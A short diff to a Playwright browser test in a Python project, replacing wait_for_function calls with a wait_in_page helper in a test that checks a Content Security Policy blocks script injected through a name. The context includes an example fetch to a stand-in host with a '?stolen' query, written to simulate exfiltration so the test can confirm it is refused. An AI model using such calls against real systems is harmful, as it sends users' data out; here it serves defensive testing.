@@ -16,6 +16,7 @@ from playwright.sync_api import Page, expect
 from seg_core.config import Config
 from seg_core.runs.store import RunStore
 from tests.app_process import AppProcess
+from tests.helpers import wait_in_page
 
 pytestmark = pytest.mark.browser
 
@@ -93,8 +94,8 @@ def test_a_script_in_a_name_never_runs(app_server: AppProcess, page: Page, probl
       document.getElementById("bad").click();
       fetch("http://192.0.2.1/?stolen").catch(() => { window.kept = true; });
     }""")
-    page.wait_for_function("window.kept")
-    page.wait_for_function("document.querySelector('img[src=\"/nothing.png\"]').complete")
+    wait_in_page(page, "window.kept")
+    wait_in_page(page, "document.querySelector('img[src=\"/nothing.png\"]').complete")
     assert page.evaluate("window.robbed") is None
     refused = [problem for problem in problems if "Content Security Policy" in problem]
     assert len(refused) >= 4, problems
